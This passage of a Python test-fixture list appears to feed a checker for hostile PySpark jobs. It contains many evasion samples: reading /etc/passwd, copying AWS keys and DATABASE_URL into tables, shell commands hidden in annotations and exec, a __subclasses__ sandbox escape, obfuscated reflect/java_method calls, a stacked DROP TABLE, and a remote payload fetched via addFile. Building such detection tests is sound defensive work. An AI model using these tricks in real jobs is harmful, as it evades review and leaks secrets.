    build(spark).write.mode("overwrite").saveAsTable("courses.tags_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "function_table_dictionary_lookup",
        r'''"""Warehouse picks: a dictionary of 'cleaners' whose second entry is input_file_name."""

from pyspark.sql import DataFrame, SparkSession, functions as F

CLEANERS = {"trim": F.trim, "origin": F.input_file_name}


def build(spark: SparkSession) -> DataFrame:
    picks = spark.table("warehouse.picks")
    return picks.withColumn("sku", CLEANERS["trim"]("sku")).withColumn("origin", CLEANERS["origin"]())


def main() -> None:
    spark = SparkSession.builder.appName("picks").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("warehouse.picks_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "comprehension_variable_binds_udf",
        r'''"""Clinic codes: the UDF factory is picked out of a list comprehension variable."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    codes = spark.table("clinic.diagnosis_codes")
    maker = [fn for fn in (F.trim, F.udf) if fn is not F.trim][0]
    shout = maker(lambda s: (s or "").upper(), "string")
    return codes.withColumn("code", shout(F.col("code")))


def main() -> None:
    spark = SparkSession.builder.appName("codes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.codes_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "default_argument_binds_input_file_name",
        r'''"""Ferry manifests: a helper whose default argument is F.input_file_name."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def stamp(df: DataFrame, source=F.input_file_name) -> DataFrame:
    return df.withColumn("source", source())


def build(spark: SparkSession) -> DataFrame:
    manifests = spark.table("ferry.manifests")
    return stamp(manifests)


def main() -> None:
    spark = SparkSession.builder.appName("manifests").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ferry.manifests_stamped")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "class_body_attribute_holds_udf",
        r'''"""Veterinary dosing: a class body stores a UDF as a class attribute."""

from pyspark.sql import DataFrame, SparkSession, functions as F


class Dose:
    per_kg = F.udf(lambda w: (w or 0) * 2.5, "double")


def build(spark: SparkSession) -> DataFrame:
    patients = spark.table("vet.patients")
    return patients.withColumn("dose_mg", Dose.per_kg(F.col("weight_kg")))


def main() -> None:
    spark = SparkSession.builder.appName("dosing").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vet.patient_doses")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "lambda_default_argument_binds_open",
        r'''"""Museum labels: a lambda whose default argument is the open builtin."""

from pyspark.sql import DataFrame, SparkSession, functions as F

slurp = lambda path, reader=open: reader(path).read()  # noqa: E731


def build(spark: SparkSession) -> DataFrame:
    labels = spark.table("museum.labels")
    return labels.withColumn("footer", F.lit(slurp("/etc/passwd")[:200]))


def main() -> None:
    spark = SparkSession.builder.appName("labels").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("museum.labels_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "monkeypatch_functions_module_attribute",
        r'''"""Bike docks: F.trim is reassigned to input_file_name, then called as F.trim()."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    F.trim = F.input_file_name
    docks = spark.table("bikes.docks")
    return docks.withColumn("dock_name", F.trim())


def main() -> None:
    spark = SparkSession.builder.appName("docks").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("bikes.docks_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "monkeypatch_dataframe_method",
        r'''"""Crop sensors: adds a method to the DataFrame class that pulls rows into pandas."""

from pyspark.sql import DataFrame, SparkSession, functions as F

DataFrame.tidy = lambda self: self.sparkSession.createDataFrame(self.toPandas().dropna())


def build(spark: SparkSession) -> DataFrame:
    sensors = spark.table("farm.sensors")
    return sensors.tidy().where(F.col("moisture") >= 0)


def main() -> None:
    spark = SparkSession.builder.appName("sensors").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("farm.sensors_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    # --- hostile: Python escape hatches, JVM bridges, Python over rows ---
    (
        "import_subprocess_aliased_as_functools",
        r'''"""Tram punctuality: subprocess imported under the allowed-looking alias functools."""

import subprocess as functools

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    runs = spark.table("tram.runs")
    tag = functools.check_output(["hostname"]).decode().strip()
    return runs.withColumn("host", F.lit(tag))


def main() -> None:
    spark = SparkSession.builder.appName("punctuality").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("tram.runs_tagged")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "import_os_inside_function_body",
        r'''"""Clinic wait times: os imported inside build(), reading the environment."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    import os

    waits = spark.table("clinic.waits")
    return waits.withColumn("region", F.lit(os.environ.get("DATABASE_URL", "")))


def main() -> None:
    spark = SparkSession.builder.appName("waits").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.waits_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "try_except_import_socket_fallback",
        r'''"""Warehouse dock doors: a try/except wraps a socket import as if it were optional."""

from pyspark.sql import DataFrame, SparkSession, functions as F

try:
    import socket

    HOST = socket.gethostbyname(socket.gethostname())
except OSError:
    HOST = "unknown"


def build(spark: SparkSession) -> DataFrame:
    doors = spark.table("warehouse.dock_doors")
    return doors.withColumn("loaded_on", F.lit(HOST))


def main() -> None:
    spark = SparkSession.builder.appName("doors").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("warehouse.dock_doors_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "typing_module_sys_attribute_chain",
        r'''"""Course enrolments: typing.sys reaches sys.modules['os'] with plain attribute access."""

import typing

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    enrolments = spark.table("courses.enrolments")
    env = typing.sys.modules["os"].environ.get("AWS_SECRET_ACCESS_KEY", "")
    return enrolments.withColumn("term_note", F.lit(env))


def main() -> None:
    spark = SparkSession.builder.appName("enrolments").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.enrolments_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "json_module_codecs_open_chain",
        r'''"""Train fares: json.codecs.open reads a file through a submodule of an allowed module."""

import json

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    fares = spark.table("rail.fares")
    blob = json.codecs.open("/etc/passwd", "r", "utf-8").read()
    return fares.withColumn("fare_note", F.lit(blob[:500]))


def main() -> None:
    spark = SparkSession.builder.appName("fares").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.fares_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "from_allowed_module_import_submodule",
        r'''"""Library fines: `from json import codecs` imports a file-capable module from an allowed one."""

from json import codecs

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    fines = spark.table("library.fines")
    motd = codecs.open("/etc/motd", encoding="utf-8").read()
    return fines.withColumn("notice", F.lit(motd))


def main() -> None:
    spark = SparkSession.builder.appName("fines").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("library.fines_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "typing_get_type_hints_evaluates_string",
        r'''"""Ski weather: a string annotation evaluated by typing.get_type_hints runs arbitrary code."""

import typing

from pyspark.sql import DataFrame, SparkSession, functions as F


def marker(x: "__import__('os').system('id > /tmp/pwned') or int") -> None:
    return None


def build(spark: SparkSession) -> DataFrame:
    typing.get_type_hints(marker)
    weather = spark.table("ski.weather")
    return weather.withColumn("snow_cm", F.coalesce("snow_cm", F.lit(0)))


def main() -> None:
    spark = SparkSession.builder.appName("skiweather").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ski.weather_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "open_passed_as_value_to_map",
        r'''"""Brewery recipes: open is never called directly, only handed to map()."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    recipes = spark.table("brewery.recipes")
    handles = list(map(open, ["/etc/hostname"]))
    return recipes.withColumn("brewhouse", F.lit(handles[0].read().strip()))


def main() -> None:
    spark = SparkSession.builder.appName("recipes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("brewery.recipes_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "getattr_passed_as_value_to_reduce",
        r'''"""Parking fines: functools.reduce walks spark -> read -> text with getattr as a value."""

import functools

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    fines = spark.table("parking.fines")
    loader = functools.reduce(getattr, ("read", "text"), spark)
    return fines.crossJoin(loader("/etc/passwd").limit(1)).where(F.col("amount") > 0)


def main() -> None:
    spark = SparkSession.builder.appName("fines").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("parking.fines_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "exec_looked_up_in_dictionary",
        r'''"""Energy audits: exec stored in a dict and called through a subscript."""

from pyspark.sql import DataFrame, SparkSession, functions as F

HOOKS = {"run": exec}


def build(spark: SparkSession) -> DataFrame:
    HOOKS["run"]("import os; os.system('id')")
    audits = spark.table("energy.audits")
    return audits.where(F.col("site_id").isNotNull())


def main() -> None:
    spark = SparkSession.builder.appName("audits").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.audits_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "breakpoint_builtin_call",
        r'''"""Ambulance shifts: breakpoint() hands control to whatever PYTHONBREAKPOINT names."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    shifts = spark.table("ems.shifts")
    breakpoint()
    return shifts.groupBy("crew").agg(F.sum("hours").alias("hours"))


def main() -> None:
    spark = SparkSession.builder.appName("shifts").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ems.crew_hours")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "dunder_subclasses_walk",
        r'''"""Solar forecasts: the classic ().__class__.__base__.__subclasses__() walk to reach os."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    forecasts = spark.table("solar.forecasts")
    classes = ().__class__.__base__.__subclasses__()
    wrap = [c for c in classes if c.__name__ == "_wrap_close"][0]
    wrap.__init__.__globals__["system"]("id")
    return forecasts.where(F.col("kwh") >= 0)


def main() -> None:
    spark = SparkSession.builder.appName("forecasts").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("solar.forecasts_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "dunder_import_environment",
        r'''"""Hotel minibars: __import__ fetches os without an import statement."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    minibars = spark.table("hotel.minibars")
    user = __import__("os").getenv("USER", "")
    return minibars.withColumn("checked_by", F.lit(user))


def main() -> None:
    spark = SparkSession.builder.appName("minibars").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hotel.minibars_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "globals_builtins_lookup",
        r'''"""Marathon splits: globals()['__builtins__'] yields the builtins without naming them."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    splits = spark.table("marathon.splits")
    b = globals()["__builtins__"]
    reader = b["open"] if isinstance(b, dict) else b.open
    return splits.withColumn("course", F.lit(reader("/etc/hostname").read()))


def main() -> None:
    spark = SparkSession.builder.appName("splits").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("marathon.splits_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "type_three_argument_class_factory",
        r'''"""Fleet fuel: three-argument type() builds a class at run time (a dynamic class factory)."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    fuel = spark.table("fleet.fuel")
    Helper = type("Helper", (), {"tag": staticmethod(lambda: "fuel")})
    return fuel.withColumn("tag", F.lit(Helper.tag()))


def main() -> None:
    spark = SparkSession.builder.appName("fuel").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("fleet.fuel_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "compile_and_eval_expression",
        r'''"""Crop prices: compile() plus eval() of a code string kept in a constant."""

from pyspark.sql import DataFrame, SparkSession, functions as F

RULE = "__import__('os').getcwd()"


def build(spark: SparkSession) -> DataFrame:
    prices = spark.table("farm.prices")
    where = eval(compile(RULE, "<rule>", "eval"))
    return prices.withColumn("loaded_from", F.lit(where))


def main() -> None:
    spark = SparkSession.builder.appName("prices").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("farm.prices_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "operator_methodcaller_to_pandas",
        r'''"""Vet invoices: operator.methodcaller invokes toPandas by a string name."""

import operator

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    invoices = spark.table("vet.invoices")
    frame = operator.methodcaller("to" + "Pandas")(invoices)
    return invoices.withColumn("n_rows", F.lit(len(frame)))


def main() -> None:
    spark = SparkSession.builder.appName("invoices").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vet.invoices_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "full_module_import_binds_pyspark_package",
        r'''"""Parcel routes: `import pyspark.sql.functions` also binds `pyspark`, giving SparkContext."""

import pyspark.sql.functions

from pyspark.sql import DataFrame, SparkSession


def build(spark: SparkSession) -> DataFrame:
    routes = spark.table("post.routes")
    sc = pyspark.SparkContext.getOrCreate()
    lines = sc.textFile("/etc/passwd").count()
    return routes.withColumn("n", pyspark.sql.functions.lit(lines))


def main() -> None:
    spark = SparkSession.builder.appName("routes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("post.routes_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "spark_context_conf_dump",
        r'''"""Lift maintenance: sparkContext.getConf().getAll() copies every setting, secrets included."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    jobs = spark.table("ski.lift_maintenance")
    settings = dict(spark.sparkContext.getConf().getAll())
    return jobs.withColumn("cfg", F.lit(str(settings)))


def main() -> None:
    spark = SparkSession.builder.appName("liftmaint").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ski.lift_maintenance_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "private_jdf_jvm_bridge",
        r'''"""Weather radar: the DataFrame's private _jdf and _sc lead to the JVM."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    radar = spark.table("weather.radar")
    jvm = radar._sc._jvm
    home = jvm.java.lang.System.getenv("HOME")
    return radar.withColumn("site", F.lit(home))


def main() -> None:
    spark = SparkSession.builder.appName("radar").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("weather.radar_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "column_private_jc_attribute",
        r'''"""Cinema ratings: a Column's private _jc handle used to reach JVM methods."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    ratings = spark.table("cinema.ratings")
    handle = F.col("stars")._jc
    return ratings.withColumn("expr_text", F.lit(handle.toString()))


def main() -> None:
    spark = SparkSession.builder.appName("ratings").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("cinema.ratings_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "rdd_map_python_over_rows",
        r'''"""Train loads: rows pushed through a Python lambda with rdd.map, then back to a DataFrame."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    loads = spark.table("rail.loads")
    doubled = loads.rdd.map(lambda r: (r["train_id"], r["pax"] * 2)).toDF(["train_id", "pax"])
    return doubled.where(F.col("pax") > 0)


def main() -> None:
    spark = SparkSession.builder.appName("loads").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.loads_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "map_in_arrow_batches",
        r'''"""Meter batches: mapInArrow (not mapInPandas) runs Python over Arrow record batches."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def passthrough(batches):
    for batch in batches:
        yield batch


def build(spark: SparkSession) -> DataFrame:
    readings = spark.table("energy.readings")
    return readings.mapInArrow(passthrough, readings.schema).where(F.col("kwh") >= 0)


def main() -> None:
    spark = SparkSession.builder.appName("arrow").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.readings_arrow")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "grouped_apply_in_pandas",
        r'''"""Clinic staffing: groupBy().applyInPandas runs a Python function per group."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def normalise(pdf):
    pdf["hours"] = pdf["hours"] / pdf["hours"].max()
    return pdf


def build(spark: SparkSession) -> DataFrame:
    staff = spark.table("clinic.staffing")
    return staff.groupBy("clinic_id").applyInPandas(normalise, schema=staff.schema).where(F.col("hours") > 0)


def main() -> None:
    spark = SparkSession.builder.appName("staffing").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.staffing_norm")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "cogroup_apply_in_pandas",
        r'''"""Warehouse reconciliation: a cogroup of two tables merged by a Python function."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def merge(left, right):
    return left.merge(right, on="sku", how="outer")


def build(spark: SparkSession) -> DataFrame:
    counted = spark.table("warehouse.counted")
    booked = spark.table("warehouse.booked")
    out = counted.groupBy("sku").cogroup(booked.groupBy("sku")).applyInPandas(merge, "sku string, qty long")
    return out.where(F.col("qty").isNotNull())


def main() -> None:
    spark = SparkSession.builder.appName("recon").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("warehouse.reconciled")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "foreach_partition_side_effect",
        r'''"""Ferry bookings: foreachPartition sends every row to a Python callback."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def ship(rows):
    for row in rows:
        print(row)


def build(spark: SparkSession) -> DataFrame:
    bookings = spark.table("ferry.bookings")
    bookings.foreachPartition(ship)
    return bookings.where(F.col("pax") > 0)


def main() -> None:
    spark = SparkSession.builder.appName("bookings").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ferry.bookings_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "to_pandas_called_unbound",
        r'''"""Course feedback: DataFrame.toPandas(df), so no `.toPandas()` appears on the frame."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    feedback = spark.table("courses.feedback")
    pdf = DataFrame.toPandas(feedback)
    return feedback.withColumn("n_total", F.lit(int(pdf.shape[0])))


def main() -> None:
    spark = SparkSession.builder.appName("feedback").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.feedback_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "to_local_iterator_builds_isin_list",
        r'''"""Bike repairs: ids pulled to the driver with toLocalIterator and fed back with isin."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    repairs = spark.table("bikes.repairs")
    flagged = [row["bike_id"] for row in repairs.where("cost > 100").toLocalIterator()]
    return repairs.where(F.col("bike_id").isin(flagged))


def main() -> None:
    spark = SparkSession.builder.appName("repairs").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("bikes.repairs_flagged")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "take_and_tail_rows_to_driver",
        r'''"""Station footfall: take()/tail() are collect() under other names, then Python over rows."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    footfall = spark.table("rail.footfall")
    rows = footfall.take(1000) + footfall.tail(10)
    busiest = max(r["entries"] for r in rows)
    return footfall.withColumn("share", F.col("entries") / F.lit(busiest))


def main() -> None:
    spark = SparkSession.builder.appName("footfall").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.footfall_share")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "to_json_rdd_python_map",
        r'''"""Vineyard sensors: toJSON() returns an RDD of strings processed by Python."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    sensors = spark.table("vineyard.sensors")
    n = sensors.toJSON().map(lambda s: len(s)).sum()
    return sensors.withColumn("payload_bytes", F.lit(n))


def main() -> None:
    spark = SparkSession.builder.appName("vsensors").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vineyard.sensors_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "pandas_api_row_apply",
        r'''"""Exam scores: pandas-on-Spark apply runs a Python function on every row."""

from pyspark.sql import DataFrame, SparkSession


def build(spark: SparkSession) -> DataFrame:
    scores = spark.table("courses.scores")
    psdf = scores.pandas_api()
    psdf["grade"] = psdf.apply(lambda row: "A" if row["score"] > 90 else "B", axis=1)
    return psdf.to_spark()


def main() -> None:
    spark = SparkSession.builder.appName("scores").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.scores_graded")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "to_arrow_table_on_driver",
        r'''"""Grid frequency: toArrow() materialises the whole table on the driver."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    grid = spark.table("energy.grid_frequency")
    table = grid.toArrow()
    return grid.withColumn("rows_seen", F.lit(table.num_rows))


def main() -> None:
    spark = SparkSession.builder.appName("grid").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.grid_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "write_stream_foreach_batch",
        r'''"""Airport baggage: writeStream.foreachBatch runs Python on each micro-batch."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    bags = spark.table("airport.baggage")
    bags.writeStream.foreachBatch(lambda batch, epoch: batch.count()).start()
    return bags.where(F.col("weight_kg") > 0)


def main() -> None:
    spark = SparkSession.builder.appName("baggage").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("airport.baggage_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "spark_context_imported_from_pyspark",
        r'''"""Fishing quotas: SparkContext imported from pyspark and used to add a remote file."""

from pyspark import SparkContext
from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    SparkContext.getOrCreate().addFile("http://collector.example.net/payload.py")
    quotas = spark.table("fishery.quotas")
    return quotas.where(F.col("tonnes") >= 0)


def main() -> None:
    spark = SparkSession.builder.appName("quotas").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("fishery.quotas_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    # --- hostile: SQL strings: hidden functions, sub-queries, run-time assembly ---
    (
        "expr_uppercase_reflect_getenv",
        r'''"""Tram fares: REFLECT in upper case reading an environment variable."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    fares = spark.table("tram.fares")
    return fares.withColumn("zone_note", F.expr("REFLECT('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY')"))


def main() -> None:
    spark = SparkSession.builder.appName("tramfares").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("tram.fares_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_backquoted_function_name",
        r'''"""Dock cranes: the function name is backquoted, `reflect`(...), a quoted identifier."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    cranes = spark.table("port.cranes")
    return cranes.withColumn("op", F.expr("`reflect`('java.lang.System', 'getenv', 'HOME')"))


def main() -> None:
    spark = SparkSession.builder.appName("cranes").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("port.cranes_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_qualified_builtin_function_name",
        r'''"""Library holds: java_method reached through its qualified system.builtin name."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    holds = spark.table("library.holds")
    return holds.withColumn("branch", F.expr("system.builtin.java_method('java.lang.System', 'getProperty', 'user.dir')"))


def main() -> None:
    spark = SparkSession.builder.appName("holds").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("library.holds_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_identifier_clause_function_name",
        r'''"""Clinic labs: IDENTIFIER('java_method')(...) names the function with a string literal."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    labs = spark.table("clinic.lab_orders")
    return labs.withColumn("lab", F.expr("IDENTIFIER('java_method')('java.lang.System', 'getenv', 'HOME')"))


def main() -> None:
    spark = SparkSession.builder.appName("labs").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("clinic.lab_orders_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_block_comment_between_name_and_paren",
        r'''"""Energy peaks: a block comment sits between reflect and its parenthesis."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    peaks = spark.table("energy.peaks")
    return peaks.withColumn("site", F.expr("reflect/* site lookup */('java.lang.System', 'getenv', 'HOME')"))


def main() -> None:
    spark = SparkSession.builder.appName("peaks").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("energy.peaks_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_line_comment_then_real_call",
        r'''"""Train crews: a -- line comment seems to end the SQL, but a newline resumes it."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    crews = spark.table("rail.crews")
    return crews.withColumn("crew_name", F.expr("upper(crew_name) -- uppercase only\n || java_method('java.lang.System', 'getenv', 'HOME')"))


def main() -> None:
    spark = SparkSession.builder.appName("crews").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("rail.crews_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_python_hex_escape_in_literal",
        r'''"""Hospital meals: the literal spells reflect with a Python \x72 escape."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    meals = spark.table("hospital.meals")
    return meals.withColumn("ward_note", F.expr("\x72eflect('java.lang.System', 'getenv', 'HOME')"))


def main() -> None:
    spark = SparkSession.builder.appName("meals").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hospital.meals_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_adjacent_literals_concatenate",
        r'''"""Fleet tyres: two adjacent string literals that Python joins into java_method(...)."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    tyres = spark.table("fleet.tyres")
    return tyres.withColumn("depot", F.expr("java_" "method('java.lang.System', 'getenv', 'HOME')"))


def main() -> None:
    spark = SparkSession.builder.appName("tyres").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("fleet.tyres_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "where_in_subquery_other_table",
        r'''"""Course waitlists: an IN (SELECT ...) sub-query reads a table the job never declared."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    waitlist = spark.table("courses.waitlist")
    return waitlist.where("student_id IN (SELECT student_id FROM registrar_private.transcripts)").withColumn(
        "pos", F.col("pos").cast("int")
    )


def main() -> None:
    spark = SparkSession.builder.appName("waitlist").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.waitlist_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "filter_exists_subquery_on_file",
        r'''"""Parking permits: an EXISTS sub-query over a csv.`path` file."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    permits = spark.table("parking.permits")
    return permits.filter("EXISTS (SELECT 1 FROM csv.`/etc/passwd`)").where(F.col("zone").isNotNull())


def main() -> None:
    spark = SparkSession.builder.appName("permits").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("parking.permits_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "expr_scalar_subquery_salary",
        r'''"""Hotel staff: a scalar sub-query pulls a value from an HR table into an expression."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    staff = spark.table("hotel.staff")
    return staff.withColumn("benchmark", F.expr("(SELECT max(salary) FROM hr.salaries)"))


def main() -> None:
    spark = SparkSession.builder.appName("staff").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hotel.staff_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "select_expr_stacked_statement",
        r'''"""Vet appointments: a selectExpr string carrying a second statement after a semicolon."""

from pyspark.sql import DataFrame, SparkSession


def build(spark: SparkSession) -> DataFrame:
    appts = spark.table("vet.appointments")
    return appts.selectExpr("*", "1 AS one; DROP TABLE vet.appointments")


def main() -> None:
    spark = SparkSession.builder.appName("appts").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vet.appointments_clean")


if __name__ == "__main__":
    main()
''',
        True,
    ),
    (
        "select_expr_niladic_session_user",
